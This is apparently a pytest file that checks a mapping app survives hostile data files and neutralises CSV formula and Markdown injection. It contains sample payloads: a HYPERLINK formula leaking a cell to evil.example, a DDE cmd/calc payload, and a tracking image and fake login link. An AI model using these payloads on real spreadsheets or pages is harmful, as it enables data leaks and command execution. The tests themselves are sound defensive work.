"""Hostile input: no traceback, no request off the machine, no memory blow-up.

One test per case.  Every hostile file is written by the test itself (tests/datagen.py), never
stored.  Each case gets the same answer: a problem line naming the file (and the feature and
field where known), nothing else lost, the rest of the map intact, memory and time bounded.

* data files: deep nesting, wrong types anywhere, huge numbers, NaN, bad bytes, a BOM, an
  oversize file, sources.json likewise — through ``load_dataset``, ``python -m layers check``
  and the page (Streamlit AppTest);
* CSV formula injection (``=HYPERLINK(…)``, ``+1+2``, ``@SUM(…)``…) in both CSV exports, from
  the app's functions and from the command line;
* Markdown injection through the link's parameters and the data: the text is shown as text,
  never rendered as Markdown (no image fetched, no link made).
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
from google.protobuf.descriptor import FieldDescriptor
from streamlit.testing.v1 import AppTest

from layers import export as ex
from layers.load import MAX_FILE_BYTES, MAX_PROBLEMS_PER_FILE, load_dataset
from layers.panel import md_escape
from layers.state import parse_query
from tests import datagen as dg

REPO = Path(__file__).resolve().parents[1]
ECON = "features/economic.geojson"
OTHERS = {"test-harbour", "drill-area", "capital"}  # the features outside economic.geojson


# --- helpers ----------------------------------------------------------------------------------

def fc(features: list, **members) -> str:
    return json.dumps({"type": "FeatureCollection", **members, "features": features})


def port(**over) -> dict:
    """The economic layer's one feature (its id is ``not-chinese-port``)."""
    return dg.point("not-chinese-port", "economic", 103.497, 10.6455, chinese_funded=False, **over)


def load(tmp_path, raw: dict[str, str] | None = None, raw_bytes: dict[str, bytes] | None = None,
         **kw):
    root = dg.write_data(tmp_path / "data", raw=raw, **kw)
    for rel, data in (raw_bytes or {}).items():
        (root / rel).write_bytes(data)
    ds = load_dataset(root)
    return ds, [str(p) for p in ds.errors]


def assert_rest_loads(ds, ids=OTHERS) -> None:
    assert ids <= {f.id for f in ds.features}


# --- 1. data files: every malformed shape is a problem line, the rest loads --------------------

def test_deeply_nested_file_is_a_problem_not_a_recursion_error(tmp_path):
    ds, errs = load(tmp_path, raw={ECON: "[" * 100_000 + "]" * 100_000})
    assert errs == ["data/features/economic.geojson: invalid JSON: arrays or objects nested too "
                    "deeply to read"]
    assert_rest_loads(ds)


def test_deep_nesting_inside_one_feature_names_the_feature(tmp_path):
    deep = json.loads("[" * 200 + "]" * 200)
    ds, errs = load(tmp_path, raw={ECON: fc([port(aliases=deep), dg.point("second-port", "economic", 103.5, 10.7)])})
    assert any(e.startswith("data/features/economic.geojson: feature 'not-chinese-port': field "
                            "'properties.aliases.0.0.") and e.endswith("nested more than 32 levels deep")
               for e in errs), errs
    assert_rest_loads(ds, OTHERS | {"second-port"})  # the next feature in the same file too


def test_crs_properties_as_a_list(tmp_path):
    """The issue's example: ``"properties": ["EPSG:4326"]`` raised AttributeError."""
    text = fc([port()], crs={"type": "name", "properties": ["EPSG:4326"]})
    ds, errs = load(tmp_path, raw={ECON: text})
    assert len(errs) == 1 and errs[0].startswith(
        "data/features/economic.geojson: field 'crs': coordinates must be WGS84 (EPSG:4326), and "
        "crs.properties is a list"), errs
    assert_rest_loads(ds)


def test_crs_as_a_string(tmp_path):
    ds, errs = load(tmp_path, raw={ECON: fc([port()], crs="EPSG:4326")})
    assert len(errs) == 1 and "field 'crs'" in errs[0] and "crs is a string" in errs[0]
    assert_rest_loads(ds)


def test_crs_name_not_a_string(tmp_path):
    ds, errs = load(tmp_path, raw={ECON: fc([port()], crs={"type": "name", "properties": {"name": ["EPSG:4326"]}})})
    assert len(errs) == 1 and "crs.properties.name is a list" in errs[0]
    assert_rest_loads(ds)


def test_features_not_a_list(tmp_path):
    ds, errs = load(tmp_path, raw={ECON: json.dumps({"type": "FeatureCollection", "features": {"0": port()}})})
    assert errs == ["data/features/economic.geojson: field 'features': expected a list, got an object"]
    assert_rest_loads(ds)


def test_feature_not_an_object(tmp_path):
    ds, errs = load(tmp_path, raw={ECON: fc([17, "x", None, [port()], port()])})
    assert errs == [f"data/features/economic.geojson: feature '#{i}': a feature must be an object, got {what}"
                    for i, what in enumerate(("a number", "a string", "null", "a list"))]
    assert_rest_loads(ds, OTHERS | {"not-chinese-port"})


def test_properties_not_an_object(tmp_path):
    f = port()
    f["properties"] = [f["properties"]]
    ds, errs = load(tmp_path, raw={ECON: fc([f])})
    assert errs == ["data/features/economic.geojson: feature '#0': field 'properties': properties "
                    "must be an object, got a list"]
    assert_rest_loads(ds)


def test_geometry_not_an_object(tmp_path):
    f = port()
    f["geometry"] = [103.497, 10.6455]
    ds, errs = load(tmp_path, raw={ECON: fc([f])})
    assert errs == ["data/features/economic.geojson: feature 'not-chinese-port': field 'geometry': "
                    "unsupported or missing geometry type: the geometry is a list"]
    assert_rest_loads(ds)


def test_geometry_type_not_a_string(tmp_path):
    """A list as the type raised ``TypeError: unhashable type: 'list'``."""
    f = port()
    f["geometry"]["type"] = ["Point"]
    ds, errs = load(tmp_path, raw={ECON: fc([f])})
    assert errs == ["data/features/economic.geojson: feature 'not-chinese-port': field 'geometry': "
                    "unsupported or missing geometry type a list"]
    assert_rest_loads(ds)


def test_integer_too_long_for_python(tmp_path):
    """5,000 digits: Python's int() refuses it (ValueError), which ended the whole file."""
    text = fc([port(), dg.point("second-port", "economic", 103.5, 10.7)]).replace("103.497", "1" * 5000, 1)
    ds, errs = load(tmp_path, raw={ECON: text})
    assert errs == ["data/features/economic.geojson: feature 'not-chinese-port': field "
                    "'geometry.coordinates.0': not a finite number (NaN, Infinity, or a number too large)"]
    assert_rest_loads(ds, OTHERS | {"second-port"})


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e400"])
def test_nan_infinity_and_overflowing_numbers(tmp_path, number):
    text = fc([port()]).replace('"precision_m": 500', f'"precision_m": {number}')
    assert number in text
    ds, errs = load(tmp_path, raw={ECON: text})
    assert errs == ["data/features/economic.geojson: feature 'not-chinese-port': field "
                    "'properties.precision_m': not a finite number (NaN, Infinity, or a number too large)"]
    assert_rest_loads(ds)


def test_lone_surrogate_in_text(tmp_path):
    """``"\\ud800"`` is valid JSON but no UTF-8: the page and the exports could not encode it."""
    text = fc([port()]).replace("Not Chinese Port", "Port \\ud800")
    ds, errs = load(tmp_path, raw={ECON: text})
    assert errs == ["data/features/economic.geojson: feature 'not-chinese-port': field "
                    "'properties.name': text holds an invalid character (a lone surrogate \\ud800–\\udfff)"]
    assert_rest_loads(ds)
    ex.to_csv(ds, ds.features).encode("utf-8")  # everything loaded can be exported


def test_non_utf8_bytes_name_the_place(tmp_path):
    good = fc([port()]).encode()
    ds, errs = load(tmp_path, raw_bytes={ECON: good[:40] + b"\xff\xfe" + good[40:]})
    assert errs == ["data/features/economic.geojson: not UTF-8 text (invalid start byte at byte 40, line 1)"]
    assert_rest_loads(ds)


def test_utf8_bom_is_read_with_a_warning(tmp_path):
    ds, errs = load(tmp_path, raw_bytes={ECON: b"\xef\xbb\xbf" + fc([port()]).encode()})
    assert errs == []
    assert any(p.severity == "warning" and str(p).startswith(
        "data/features/economic.geojson: starts with a UTF-8 byte-order mark") for p in ds.problems)
    assert_rest_loads(ds, OTHERS | {"not-chinese-port"})  # nothing lost


def test_oversize_file_is_refused_unread(tmp_path):
    root = dg.write_data(tmp_path / "data")
    with open(root / ECON, "wb") as fh:  # 200 MB, sparse: no disk used, nothing to read
        fh.truncate(200 * 1024 * 1024)
    tracemalloc.start()
    t0 = time.monotonic()
    ds = load_dataset(root)
    elapsed, peak = time.monotonic() - t0, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [str(p) for p in ds.errors] == [
        f"data/features/economic.geojson: file is too large (200.0 MB; the limit is "
        f"{MAX_FILE_BYTES / 1024 / 1024:.1f} MB): not read"]
    assert_rest_loads(ds)
    assert peak < 20 * 1024 * 1024 and elapsed < 10, (peak, elapsed)


def test_a_flood_of_bad_features_is_bounded(tmp_path):
    """200,000 broken features: a capped list of problem lines, in bounded time and memory."""
    t0 = time.monotonic()
    ds, errs = load(tmp_path, raw={ECON: fc([{}] * 200_000)})
    assert time.monotonic() - t0 < 20
    mine = [e for e in errs if e.startswith("data/features/economic.geojson")]
    assert len(mine) <= MAX_PROBLEMS_PER_FILE + 1
    assert mine[0] == "data/features/economic.geojson: field 'features': 200,000 items; only the first 10,000 are read"
    assert mine[-1].startswith("data/features/economic.geojson: … and ") and "more problems in this file" in mine[-1]
    assert_rest_loads(ds)


def test_sources_json_deeply_nested(tmp_path):
    ds, errs = load(tmp_path, raw={"sources.json": '{"sources": ' + "[" * 100_000 + "]" * 100_000 + "}"})
    assert errs[0] == "data/sources.json: invalid JSON: arrays or objects nested too deeply to read"
    assert ds.sources == {}  # the features citing them are reported (unknown source), not a crash


def test_source_not_an_object_and_a_bad_source_keep_the_others(tmp_path):
    bad = dg.note_source(id="bad-source", title="Title \ud800")
    text = json.dumps({"sources": [["not", "a", "source"], bad, dg.source(), dg.note_source()]})
    ds, errs = load(tmp_path, raw={"sources.json": text})
    assert errs == ["data/sources.json: source '#0': a source must be an object, got a list",
                    "data/sources.json: source 'bad-source': field 'title': text holds an invalid "
                    "character (a lone surrogate \\ud800–\\udfff)"]
    assert set(ds.sources) == {"test-source", "other-source"}
    assert_rest_loads(ds, OTHERS | {"not-chinese-port"})


def test_sources_not_a_list(tmp_path):
    ds, errs = load(tmp_path, raw={"sources.json": json.dumps({"sources": {"test-source": dg.source()}})})
    assert errs[0] == "data/sources.json: field 'sources': expected a list, got an object"


def test_hostile_id_is_clipped_to_one_line(tmp_path):
    """An id that is no slug names its feature in the problem line — short, on one line."""
    ds, errs = load(tmp_path, layers={**dg.default_layers(), "economic": [port(id="bad\nid\u202e" + "x" * 5000)]})
    line = next(e for e in errs if e.startswith("data/features/economic.geojson"))
    assert "\n" not in line and "\u202e" not in line and len(line) < 300
    assert "feature 'bad?id?xxx" in line


# --- the command line ---------------------------------------------------------------------------

def _cli(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "GULFWATCH_DATA_DIR": str(root), "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "layers", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)


def hostile_files(root: Path) -> Path:
    """A data folder with the issue's two crashing files (and the other layers intact)."""
    dg.write_data(root, raw={
        ECON: "[" * 100_000 + "]" * 100_000,
        "features/drills.geojson": fc(dg.default_layers()["drills"],
                                      crs={"type": "name", "properties": ["EPSG:4326"]}),
    })
    return root


def test_cli_check_reports_hostile_files_without_a_traceback(tmp_path):
    res = _cli(hostile_files(tmp_path / "data"), "check")
    assert "Traceback" not in res.stdout + res.stderr, res.stderr
    assert res.returncode == 1
    lines = res.stdout.splitlines()
    assert "data/features/economic.geojson: invalid JSON: arrays or objects nested too deeply to read" in lines
    assert any(ln.startswith("data/features/drills.geojson: field 'crs': coordinates must be WGS84") for ln in lines)
    assert "2 features, 2 sources, 2 excerpts; 2 errors, 0 warnings" in res.stderr  # counted, pluralised


def test_cli_check_pluralises_one(tmp_path):
    root = dg.write_data(tmp_path / "data", sources=[dg.note_source()],
                         layers={"context": [dg.point("capital", "context", 104.9211, 11.5694, start=None)]})
    res = _cli(root, "check")
    assert res.returncode == 0, res.stdout
    assert "1 feature, 1 source, 0 excerpts; 0 errors, 0 warnings" in res.stderr


# --- the page -----------------------------------------------------------------------------------

def run_app(query: dict | None = None, **state) -> AppTest:
    from tests.test_apptest_page import run

    return run(query, **state)


def map_features(at: AppTest) -> str:
    (comp,) = at.get("component_instance")
    return json.loads(comp.proto.json_args)["feature_group"]


def test_app_survives_hostile_data_files(tmp_path, monkeypatch):
    monkeypatch.setenv("GULFWATCH_DATA_DIR", str(hostile_files(tmp_path / "data")))
    at = run_app()
    assert not at.exception, at.exception
    problems = "\n".join(c.value for c in at.code)
    assert "data/features/economic.geojson: invalid JSON: arrays or objects nested too deeply" in problems
    assert "data/features/drills.geojson: field 'crs'" in problems
    fg = map_features(at)
    assert "gw-f-test-harbour" in fg and "gw-f-capital" in fg  # the other layers are on the map


# --- 2. CSV formula injection -------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "speaker": "+1+2",
    "quote": "-2+3 said the ministry",
    "note": "\t=1+1",
    "event": "\r=cmd",
    "name": "＝1+1 (full-width)",
}


def formula_data(root: Path) -> Path:
    src = dg.source(title=FORMULAS["title"], publisher=FORMULAS["publisher"])
    src["excerpts"][0]["speaker"] = FORMULAS["speaker"]
    src["excerpts"][0]["text"] = FORMULAS["quote"]
    f = dg.feature(name=FORMULAS["name"])
    f["properties"]["evidence"][2]["note"] = FORMULAS["note"]
    f["properties"]["events"][0]["title"] = FORMULAS["event"]
    layers = dg.default_layers()
    layers["ream"] = [f]
    return dg.write_data(root, sources=[src, dg.note_source()], layers=layers)


def read_csv(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_neutralised(rows: list[dict], cites: list[dict]) -> None:
    harbour = [r for r in rows if r["id"] == "test-harbour"]
    assert {r["name"] for r in harbour} == {"'" + FORMULAS["name"]}
    assert "'" + FORMULAS["quote"] in {r["quote"] for r in harbour}
    assert "'" + FORMULAS["speaker"] in {r["speaker"] for r in harbour}
    assert "'" + FORMULAS["note"] in {r["note"] for r in harbour}
    assert "'" + FORMULAS["event"] in {r["event"] for r in harbour}
    assert "'" + FORMULAS["title"] in {r["source_title"] for r in harbour}
    assert "'" + FORMULAS["publisher"] in {r["publisher"] for r in harbour}
    cite = next(c for c in cites if c["id"] == "test-source")
    assert cite["title"] == "'" + FORMULAS["title"] and cite["publisher"] == "'" + FORMULAS["publisher"]
    # no cell anywhere starts a formula; numbers stay numbers
    for row in rows + cites:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert all(float(r["lon"]) > 0 and float(r["precision_m"]) > 0 for r in rows)


def test_csv_formula_injection_is_neutralised_in_the_app_exports(tmp_path):
    ds = load_dataset(formula_data(tmp_path / "data"))
    assert ds.errors == []
    assert_neutralised(read_csv(ex.to_csv(ds, ds.features)), read_csv(ex.citations_csv(ds, ds.features)))


def test_csv_keeps_negative_numbers_and_plain_text():
    """Only text cells are prefixed: a number (lon -0.5) stays a number."""
    from layers.export.csv import write_csv

    text = write_csv([{"lon": -0.5, "lat": -12, "name": "-0.5", "note": "a - b = c", "x": "'quoted'"}],
                     ["lon", "lat", "name", "note", "x"])
    (row,) = read_csv(text)
    assert row == {"lon": "-0.5", "lat": "-12", "name": "'-0.5", "note": "a - b = c", "x": "'quoted'"}


def test_csv_formula_injection_is_neutralised_from_the_cli(tmp_path):
    root = formula_data(tmp_path / "data")
    out, cites = tmp_path / "rows.csv", tmp_path / "cites.csv"
    for fmt, path in (("csv", out), ("citations-csv", cites)):
        res = _cli(root, "export", "--format", fmt, "-o", str(path))
        assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    assert_neutralised(read_csv(out.read_bytes().decode("utf-8")), read_csv(cites.read_bytes().decode("utf-8")))


# --- 3. Markdown injection: text from a link or the data is shown as text ----------------------

IMAGE = "![t](http://evil.example/track.png)"
LOGIN = "[Log in](https://evil.example/x)"

# what Streamlit renders as Markdown: every string in these elements' protos (labels, help,
# options, bodies); st.html (escaped), st.code, st.text and st.dataframe are not Markdown
NOT_MARKDOWN = {"html", "code", "text", "dataframe", "component_instance", "arrow_data_frame"}


def _strings(msg) -> list[str]:
    out = []
    for field, value in msg.ListFields():
        repeated = getattr(field, "is_repeated", None)
        repeated = repeated if isinstance(repeated, bool) else field.label == FieldDescriptor.LABEL_REPEATED
        values = value if repeated else [value]
        for v in values:
            if field.type == FieldDescriptor.TYPE_STRING:
                out.append(v)
            elif field.type == FieldDescriptor.TYPE_MESSAGE:
                out += _strings(v)
    return out


def markdown_strings(at: AppTest) -> list[str]:
    """Every string the page hands Streamlit's Markdown renderer."""
    out: list[str] = []

    def walk(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None and getattr(node, "type", None) not in NOT_MARKDOWN:
            out.extend(_strings(proto))
        children = getattr(node, "children", None)
        for child in (children.values() if isinstance(children, dict) else ()):
            walk(child)

    walk(at._tree)
    return out


def html_bodies(at: AppTest) -> list[str]:
    return [h.proto.body for h in at.get("html")]


def assert_shown_as_text(at: AppTest, hostile: str) -> None:
    assert not at.exception, at.exception
    # literally, as text: HTML-escaped inside st.html (which renders HTML, never Markdown)
    assert any(html.escape(hostile) in b for b in html_bodies(at)), hostile
    # and never where Markdown would render it (a Markdown label holds it escaped, if at all)
    leaks = [s for s in markdown_strings(at) if "evil.example" in s]
    assert leaks == [], leaks
    assert not any("<img" in b and "evil.example" in b or "<a " in b and "evil.example" in b
                   for b in html_bodies(at))
    assert "gw-f-test-harbour" in map_features(at)  # the map is still there


@pytest.fixture
def data(tmp_path, monkeypatch):
    root = dg.write_data(tmp_path / "data")
    monkeypatch.setenv("GULFWATCH_DATA_DIR", str(root))
    return root


@pytest.mark.parametrize("key, value, shown", [
    ("feature", IMAGE, IMAGE),
    ("feature", LOGIN, LOGIN),
    ("basemap", IMAGE, IMAGE),
    ("from", IMAGE, IMAGE),
    ("to", LOGIN, LOGIN),
    ("layers", f"ream,{IMAGE}", IMAGE),
    ("sides", f"us,{LOGIN}", LOGIN),
    ("view", IMAGE, IMAGE),
])
def test_markdown_in_a_link_parameter_is_shown_as_text(data, key, value, shown):
    assert_shown_as_text(run_app({key: value}), shown)


def test_backtick_id_in_a_data_file_stays_in_the_problem_list(tmp_path, monkeypatch):
    """A backtick in an id closed the code span of the problems list: the rest was Markdown."""
    bad_id = f"x` {IMAGE} `"
    root = dg.write_data(tmp_path / "data", layers={**dg.default_layers(), "economic": [port(id=bad_id)]})
    monkeypatch.setenv("GULFWATCH_DATA_DIR", str(root))
    at = run_app()
    assert not at.exception, at.exception
    assert any(f"feature {bad_id!r}: field 'id'" in c.value for c in at.code)  # literally, as code
    assert [s for s in markdown_strings(at) if "evil.example" in s] == []
    assert "gw-f-capital" in map_features(at)


def test_hostile_names_in_tabs_and_search_are_text(tmp_path, monkeypatch):
    """Feature names and search snippets from the data: the distance tab's heading and ring
    caption, the search hits' labels and tooltips."""
    name = f"Port {IMAGE}"
    layers = {**dg.default_layers(), "economic": [port(name=name, summary=f"Summary {LOGIN} here.")]}
    monkeypatch.setenv("GULFWATCH_DATA_DIR", str(dg.write_data(tmp_path / "data", layers=layers)))
    at = run_app({"feature": "not-chinese-port"}, lower_tab="Distances & rings", ring_text="100", q="evil")
    assert not at.exception, at.exception
    bodies = "\n".join(html_bodies(at))
    assert f"<b>From {html.escape(name)}</b>" in bodies
    assert f"1 ring drawn around {html.escape(name)}" in bodies
    hits = [b for b in at.button if b.key and b.key.startswith("hit-")]
    assert hits and all("evil.example" not in (b.label + (b.help or "")) for b in hits)
    assert any(b.help == md_escape(name) for b in hits)  # the snippet that matched, escaped
    assert [s for s in markdown_strings(at) if "evil.example" in s] == []


def test_layers_none_is_not_an_unknown_layer(data):
    at = run_app({"layers": "none", "sides": "none"})
    assert not at.exception
    assert not [b for b in html_bodies(at) if "gw-text-info" in b]  # no notice
    assert at.session_state["sides"] == [] and not at.session_state["lay_ream"]
    view, notices = parse_query({"layers": "none"}, [])
    assert view.layers == () and notices == []


def test_notices_pluralise():
    _, one = parse_query({"layers": "ream,bogus"}, [])
    _, two = parse_query({"sides": "x,y,x"}, [])
    assert one == ["Ignored unknown layer in the link: bogus."]
    assert two == ["Ignored unknown sides in the link: x, y."]


MARKDOWN_SYNTAX = set("![]()`<>&$:~|#-=@*_/^{}+.")


def test_md_escape_neutralises_every_markdown_construct():
    nasty = ("![t](http://evil.example/a.png) [x](https://evil.example) `code` <b>x</b> &amp; "
             "$x^2$ :material/home: :red[x] :smile: www.evil.example a@evil.example ~~s~~ | t |"
             "\n# heading\r\n- item\u2028===")
    out = md_escape(nasty)
    # every character Markdown could read as syntax comes escaped, and the text stays on one line
    i = 0
    while i < len(out):
        if out[i] == "\\":
            assert out[i + 1] in MARKDOWN_SYNTAX, out[i:i + 2]
            i += 2
            continue
        assert out[i] not in MARKDOWN_SYNTAX and out[i] not in "\r\n\u2028", (out[i], out[max(i - 20, 0):i + 20])
        i += 1
    # an escape is a backslash before the character itself: the text reads the same
    assert out.replace("\\", "") == " ".join(nasty.replace("\u2028", "\n").split("\n")).replace("\r", "")
